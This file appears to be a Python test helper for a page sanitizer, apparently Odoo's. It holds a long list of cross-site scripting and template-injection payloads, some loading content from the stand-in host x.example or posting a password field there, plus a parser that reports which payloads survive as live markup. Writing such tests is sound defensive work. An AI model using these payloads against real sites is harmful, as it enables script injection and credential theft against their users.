"""Words somebody outside would write to reach whoever reads them, and how to see that they did.

Odoo is not needed here: the pages of a real browser are judged by the same words.
"""

import re
from urllib.parse import urlsplit

from lxml import html

# Each tries to run a script, to load something, or to look like something else.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//x.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://x.example/pixel.gif'>",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//x.example/y'>x</a>",
    "<a href='https://x.example/' onclick=alert(1) style='x' target=_blank>x</a>",
    "<a href='https://x.example/\"onmouseover=alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover=alert(1) class=o_form data-x=1 t-out='1'>x</p>",
    "<div style='position:fixed;top:0'>x</div>",
    "<style>@import 'https://x.example/x.css';</style>",
    "<link rel=stylesheet href='https://x.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://x.example/'><input name=password><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x</body>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<img src=x onerror=alert(1)",
    "<b" + "<i>" * 500 + "x",
]
# Every attribute that runs or loads something, on tags that are taken away and on tags that stay.
VECTORS += [
    f"<{tag} {attribute}>x</{tag}>"
    for tag in ("p", "a", "h1", "li", "img", "svg", "custom-tag")
    for attribute in (
        "onclick=alert(1)",
        "ONFOCUS=alert(1) autofocus tabindex=1",
        "onanimationstart='alert(1)' style='animation:x'",
        "/onpointerenter=alert(1)//",
        "src='data:text/html;base64,PHNjcmlwdD4='",
        "href='jav\x00ascript:alert(1)'",
        "href='&#x6A;&#x61;vascript&colon;alert(1)'",
        "href='file:///etc/passwd'",
        "formaction='javascript:alert(1)'",
        "id=wrapwrap name=getElementById",
    )
]


# Out of an attribute, a title, a script, a comment; templates of Odoo's, a format of Python's.
WORDS = [
    *VECTORS,
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style><svg onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    '";alert(1);//',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "javascript:alert(1)",
    "javascript://x.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//x.example/pixel.gif",
    "[x](javascript:alert(1))",
    "{{ 7331 * 7 }}",
    "${7331 * 7}",
    "<t t-out='7331 * 7'/>",
    "<t t-raw='object.env'>x</t>",
    "%(user)s %s {0.__class__}",
]
CALCULATED = str(7331 * 7)

_ADDRESSES = {
    *("action", "background", "cite", "data", "formaction", "href", "poster", "src", "srcset"),
    *("srcdoc", "xlink:href"),
}
_RUNS = re.compile(r"(?:javascript|vbscript|data:text|file):?", re.IGNORECASE)
_LAID_OVER = re.compile(
    r"javascript:|position:\s*fixed|(?:\(|=)['\"]?(?:https?:)?//x\.example", re.IGNORECASE
)
_BLANKS = re.compile(r"[\x00-\x20]+")
# Of no page of Odoo's.
_STRANGE = {"custom-tag", "marquee", "x:script", "xmp", "frameset", "applet"}


def reached(page):
    """Return what of a page those words became: anything but text, by tag and attribute."""
    found = [] if CALCULATED not in page else [f"calculated {CALCULATED}"]
    parser = html.HTMLParser(encoding="utf-8")
    for element in html.document_fromstring(f"<p></p>{page}".encode(), parser).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in _STRANGE:
            found.append(element.tag)
        own = element.text or ""
        if element.tag in ("script", "style") and _is_foreign(own) and not _is_data(element):
            found.append(f"{element.tag}: {own.strip()[:80]}")
        found += [
            f"{element.tag} {name}={value[:80]}"
            for name, value in element.items()
            if _acts(element, name, value)
        ]
    return found


def _acts(element, name, value):
    if re.search(r"\bon[a-z]+", name):
        return _is_foreign(name + value)
    if name in ("style", "content"):
        # Odoo's own pages lay something over themselves, but never in words like these.
        return bool(_LAID_OVER.search(value)) and element.get("class") is None
    if name in _ADDRESSES:
        plain = _BLANKS.sub("", value)
        if element.tag == "a" and name == "href" and element.get("rel") == "noopener nofollow":
            # A supplier's link to the web, which learns nothing of who reads it.
            return not plain.startswith(("http:", "https:"))
        foreign = name == "srcdoc" and _is_foreign(value)
        return foreign or bool(_RUNS.match(plain)) or _leads_to_stranger(plain)
    return name in ("t-out", "t-raw", "data-x") or value == "getElementById"


def _is_foreign(text):
    return "alert(1)" in text or "msgbox(1)" in text or "x.example" in text


def _is_data(element):
    return element.get("type") in ("application/json", "application/ld+json")


def _leads_to_stranger(address):
    try:
        return urlsplit(address).hostname == "x.example"
    except ValueError:
        return True
